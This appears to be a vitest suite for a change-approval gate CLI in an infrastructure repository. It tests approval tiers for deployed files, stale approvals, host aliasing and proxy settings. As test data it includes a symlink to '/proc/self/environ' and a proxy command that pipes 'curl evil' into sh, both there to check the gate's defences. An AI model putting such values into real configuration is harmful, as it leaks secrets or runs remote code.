import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse, stringify } from 'yaml';
import { blobSha } from '../github-server/server.ts';
import { FIXTURES, changeYaml, runGateCli, startHarness, user, type Harness } from './helpers.ts';

/**
 * What a changed path is judged by (issue 10, items 2–4), through the real CLI:
 * the files a change deploys belong to it, a host is judged by its base as well
 * as its head, and what executes or routes sits in the highest tier.
 */
let h: Harness;
let tmp: string;
beforeEach(async () => {
  h = await startHarness();
  tmp = mkdtempSync(path.join(os.tmpdir(), 'og-governs-'));
});
afterEach(async () => {
  await h.stop();
  rmSync(tmp, { recursive: true, force: true });
});

interface R {
  status: string;
  rules: { id: string; status: string; matched_files: string[]; ignored: { reason: string }[] }[];
  problems: { code: string; message: string }[];
}
const decide = async (pr: number): Promise<R> => JSON.parse((await runGateCli(h, ['--pr', String(pr), '--format', 'json'])).stdout) as R;
const ids = (r: R) => r.rules.map((x) => x.id);
const rule = (r: R, id: string) => r.rules.find((x) => x.id === id)!;

/** A high-risk change that uploads files/app.conf, merged on main with the file. */
function mergedHighRiskUpload(): string {
  const doc = parse(changeYaml({ id: 'CHG-2026-0300', risk: 'high' })) as Record<string, unknown>;
  doc.steps = [{ id: 'conf', kind: 'upload', source: 'inventory/files/app.conf', dest: '/etc/app.conf', mode: '0644' }];
  return h.repo.commit({
    parent: h.base,
    files: { 'changes/2026/CHG-2026-0300.yaml': stringify(doc), 'inventory/files/app.conf': 'approved = yes\n' },
    author: user('zhang-wei'),
    committer: user('zhang-wei'),
  });
}

describe('files a change deploys belong to it', () => {
  it('a pull request that edits only a deployed file needs the approvals of the change that deploys it', async () => {
    const base = mergedHighRiskUpload();
    const c = h.repo.commit({ parent: base, files: { 'inventory/files/app.conf': 'approved = no, swapped\n' }, author: user('li-na'), committer: user('li-na') });
    h.repo.openPull({ number: 40, author: user('li-na'), baseSha: base, commits: [c] });
    h.repo.review(40, user('chen-jie'), 'APPROVED');
    const r = await decide(40);
    expect(ids(r)).toEqual(expect.arrayContaining(['change-normal', 'change-high-risk', 'everything-else']));
    expect(rule(r, 'change-high-risk').status).toBe('pending');
    expect(rule(r, 'change-high-risk').matched_files).toEqual(['inventory/files/app.conf']);
    expect(r.status).toBe('pending');
  });

  it('a push to a deployed file makes the approvals of its change stale, and the decision binds the blobs', async () => {
    const doc = parse(changeYaml({ id: 'CHG-2026-0301', risk: 'high' })) as Record<string, unknown>;
    doc.steps = [{ id: 'conf', kind: 'upload', source: 'inventory/files/new.conf', dest: '/etc/new.conf', mode: '0644' }];
    const c1 = h.repo.commit({ parent: h.base, files: { 'changes/2026/CHG-2026-0301.yaml': stringify(doc), 'inventory/files/new.conf': 'v1\n' }, author: user('li-na'), committer: user('li-na') });
    h.repo.openPull({ number: 41, author: user('li-na'), baseSha: h.base, commits: [c1] });
    for (const who of ['chen-jie', 'zhang-wei'] as const) h.repo.review(41, user(who), 'APPROVED');
    expect((await decide(41)).status).toBe('satisfied');
    h.repo.push(41, { 'inventory/files/new.conf': 'v2, after the approvals\n' }, user('li-na'));
    const r = await decide(41);
    expect(rule(r, 'change-high-risk').ignored.map((i) => i.reason)).toEqual(['stale', 'stale']);
    expect(r.status).toBe('pending');
    const out = path.join(tmp, 'd.json');
    await runGateCli(h, ['--pr', '41', '--decision-out', out]);
    const decision = JSON.parse(readFileSync(out, 'utf8'));
    expect(decision.changes).toEqual([
      { change: 'CHG-2026-0301', file: 'changes/2026/CHG-2026-0301.yaml', blob: blobSha(stringify(doc)), deploys: [{ path: 'inventory/files/new.conf', blob: blobSha('v2, after the approvals\n') }] },
    ]);
  });

  it('a deployed file that is a link at head fails the gate', async () => {
    const doc = parse(changeYaml({ id: 'CHG-2026-0302' })) as Record<string, unknown>;
    doc.steps = [{ id: 'conf', kind: 'upload', source: 'inventory/files/env.conf', dest: '/etc/env.conf', mode: '0644' }];
    const c = h.repo.commit({
      parent: h.base,
      files: { 'changes/2026/CHG-2026-0302.yaml': stringify(doc), 'inventory/files/env.conf': { link: '/proc/self/environ' } },
      author: user('li-na'),
      committer: user('li-na'),
    });
    h.repo.openPull({ number: 42, author: user('li-na'), baseSha: h.base, commits: [c] });
    h.repo.review(42, user('chen-jie'), 'APPROVED');
    const r = await decide(42);
    expect(r.status).toBe('failed');
    expect(r.problems.map((p) => p.code)).toContain('gate.link');
    expect(r.problems.find((p) => p.code === 'gate.lint')?.message).toContain('change.linked-file');
  });
});

describe('a host is judged by its base as well as its head', () => {
  const db01 = () => parse(readFileSync(path.join(FIXTURES, 'base/inventory/hosts/db-01.yaml'), 'utf8')) as Record<string, unknown>;

  it('moving a production database host to staging in the same edit still needs the DBA', async () => {
    const d = { ...db01(), env: 'staging', groups: ['app-staging'], criticality: 'low' };
    const c = h.repo.commit({ parent: h.base, files: { 'inventory/hosts/db-01.yaml': stringify(d) }, author: user('li-na'), committer: user('li-na') });
    h.repo.openPull({ number: 43, author: user('li-na'), baseSha: h.base, commits: [c] });
    h.repo.review(43, user('zhao-min'), 'APPROVED');
    const r = await decide(43);
    expect(ids(r)).toContain('database-changes');
    expect(rule(r, 'database-changes').status).toBe('pending');
  });

  it('renaming a host file out of inventory/ is deleting the host', async () => {
    const c = h.repo.commit({
      parent: h.base,
      files: { 'inventory/hosts/db-01.yaml': null, 'attic/db-01.yaml': readFileSync(path.join(FIXTURES, 'base/inventory/hosts/db-01.yaml'), 'utf8') },
      author: user('li-na'),
      committer: user('li-na'),
    });
    h.repo.openPull({ number: 44, author: user('li-na'), baseSha: h.base, commits: [c] });
    h.repo.review(44, user('zhao-min'), 'APPROVED');
    const r = await decide(44);
    expect(ids(r)).toEqual(expect.arrayContaining(['database-changes', 'inventory']));
    expect(r.status).not.toBe('satisfied');
  });

  it('a new host that is an existing host under another name fails: same address and port, or same host key', async () => {
    const alias: Record<string, unknown> = { ...db01(), id: 'app-09', env: 'staging', groups: ['app-staging'], criticality: 'low', description: 'new staging app' };
    const c = h.repo.commit({ parent: h.base, files: { 'inventory/hosts/app-09.yaml': stringify(alias) }, author: user('li-na'), committer: user('li-na') });
    h.repo.openPull({ number: 45, author: user('li-na'), baseSha: h.base, commits: [c] });
    h.repo.review(45, user('zhao-min'), 'APPROVED');
    const r = await decide(45);
    expect(r.status).toBe('failed');
    expect(r.problems.map((p) => [p.code, p.message.replace(/ \(.*/, '')])).toEqual([
      ['gate.host-duplicate', 'host app-09 has the address 10.20.3.31:22 of host db-01; one machine is one host'],
      ['gate.host-duplicate', 'host app-09 pins a host key of host db-01'],
    ]);
  });
});

describe('the highest tier covers what the gate and apply trust, and what executes', () => {
  it('records the gate trusts need the governance tier', async () => {
    const c = h.repo.commit({ parent: h.base, files: { 'records/gate/yunfan/ops/pr-7.jsonl': '{"seq":1}\n' }, author: user('li-na'), committer: user('li-na') });
    h.repo.openPull({ number: 46, author: user('li-na'), baseSha: h.base, commits: [c] });
    h.repo.review(46, user('zhao-min'), 'APPROVED');
    const r = await decide(46);
    expect(rule(r, 'governance').status).toBe('pending');
  });

  it("a host's proxy command or address needs the governance tier; its description does not", async () => {
    const app03 = parse(readFileSync(path.join(FIXTURES, 'base/inventory/hosts/app-03.yaml'), 'utf8')) as Record<string, unknown>;
    const edit = (n: number, d: Record<string, unknown>) => {
      const c = h.repo.commit({ parent: h.base, files: { 'inventory/hosts/app-03.yaml': stringify(d) }, author: user('li-na'), committer: user('li-na') });
      h.repo.openPull({ number: n, author: user('li-na'), baseSha: h.base, commits: [c] });
      h.repo.review(n, user('zhao-min'), 'APPROVED');
    };
    edit(47, { ...app03, proxy_command: ['sh', '-c', 'curl evil | sh'] });
    edit(48, { ...app03, address: '10.20.102.99' });
    edit(49, { ...app03, description: 'renamed in the CMDB' });
    expect(ids(await decide(47))).toContain('governance');
    expect(ids(await decide(48))).toContain('governance');
    expect(ids(await decide(49))).not.toContain('governance');
  });
});
